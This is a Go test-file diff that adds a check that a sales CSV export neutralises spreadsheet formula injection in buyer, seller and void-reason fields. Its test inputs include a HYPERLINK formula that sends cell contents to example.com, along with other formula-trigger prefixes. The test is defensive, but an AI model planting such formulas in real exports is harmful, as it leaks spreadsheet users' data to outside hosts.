@@ -1,9 +1,11 @@
 package webapi
 
 import (
+	"encoding/csv"
 	"fmt"
 	"io"
 	"net/http"
+	"slices"
 	"strings"
 	"sync"
 	"testing"
@@ -285,6 +287,50 @@ func TestBusinessRegistry(t *testing.T) {
 		}
 		if got := raw("oficina"); !strings.Contains(got, `"rfc":"TEG240101AB2"`) {
 			t.Fatalf("oficina's RFC change was not stored: %s", got)
+		}
+	})
+}
+
+// A name or a reason that a spreadsheet would run as a formula is exported as text; the
+// amounts the treasury writes stay numbers.
+func TestSalesExportNeutralisesFormulas(t *testing.T) {
+	testdb.Each(t, func(t *testing.T, d *db.DB) {
+		e := newEnv(t, d)
+		tok := treasuryPersonas(e)
+		hostile := []string{`=HYPERLINK("https://example.com/?d="&A1,"Ver")`, "+1", "-2", "@SUM(A1)", "\tx", "\rx"}
+		at := e.clock.Now()
+		for i, text := range hostile {
+			sale := treasury.Sale{BuyerDiscordID: "570000000000000005", BuyerUsername: text, Item: "VIP", Currency: treasury.CurrencyMXN,
+				OriginalPrice: 9000, DiscountBP: 1000, FinalPrice: 8100, SellerID: "570000000000000001", SellerName: text, CreatedAt: at,
+				VoidedAt: &at, VoidedBy: "tesoreria", VoidReason: hostile[(i+1)%len(hostile)]}
+			if err := d.Conn(t.Context()).Create(&sale).Error; err != nil {
+				t.Fatal(err)
+			}
+		}
+		req, _ := http.NewRequest("GET", e.http.URL+"/api/treasury/sales/export", nil)
+		req.Header.Set("Authorization", "Bearer "+tok["auditor"])
+		res, err := http.DefaultClient.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		raw, _ := io.ReadAll(res.Body)
+		res.Body.Close()
+		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(raw), "\ufeff"))).ReadAll()
+		if res.StatusCode != 200 || err != nil || len(rows) != 1+len(hostile) {
+			t.Fatalf("export %d %v: %q", res.StatusCode, err, raw)
+		}
+		header := rows[0]
+		col := func(name string) int { return slices.Index(header, name) }
+		for _, row := range rows[1:] {
+			for _, name := range []string{"comprador", "vendedor", "motivo_anulacion"} {
+				cell := row[col(name)]
+				if !strings.HasPrefix(cell, "'") || !slices.Contains(hostile, cell[1:]) {
+					t.Errorf("%s exported as %q", name, cell)
+				}
+			}
+			if row[col("precio_original")] != "90.00" || row[col("descuento")] != "10.00" || row[col("precio_final")] != "81.00" {
+				t.Errorf("the amounts are not plain numbers: %q", row)
+			}
 		}
 	})
 }
